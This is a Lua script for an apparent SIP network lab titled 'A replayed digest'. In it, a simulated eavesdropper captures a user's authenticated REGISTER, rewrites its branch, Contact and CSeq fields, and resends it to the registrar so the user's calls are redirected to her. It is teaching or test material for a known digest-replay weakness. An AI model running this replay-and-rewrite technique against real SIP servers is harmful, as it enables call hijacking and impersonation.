-- Mallory has read Bob's REGISTER with his credentials. She sends it again, with her own address in it, so
-- that Bob's calls go to her.
lab {
	title = "A replayed digest",
	topology = "eavesdropper.gv",
	duration = "10s",
}

local bob, mallory = node "bob", node "mallory"
local read

-- Bob's second REGISTER, the one with credentials: Mallory only reads it.
fault {
	method = "REGISTER", src = "bob", nth = 2,
	rewrite = function(text)
		read = text
		return text
	end,
}

script(function()
	sleep "1s"
	bob:register()
	wait(bob, "registered")
	sleep "2s"
	if not read then
		note "Bob gave no credentials: there is nothing to replay."
		return
	end
	-- The digest covers method and URI. A new branch makes it a new request,
	-- and the Contact is not protected.
	local forged = read
	    :gsub("branch=[^;\r\n]+", "branch=z9hG4bK-mallory-1")
	    :gsub("Contact: <[^>]+>", "Contact: <sip:mallory@192.0.2.66>")
	    :gsub("CSeq: %d+", "CSeq: 99")
	mallory:send { raw = forged, to = "registrar" }
end)
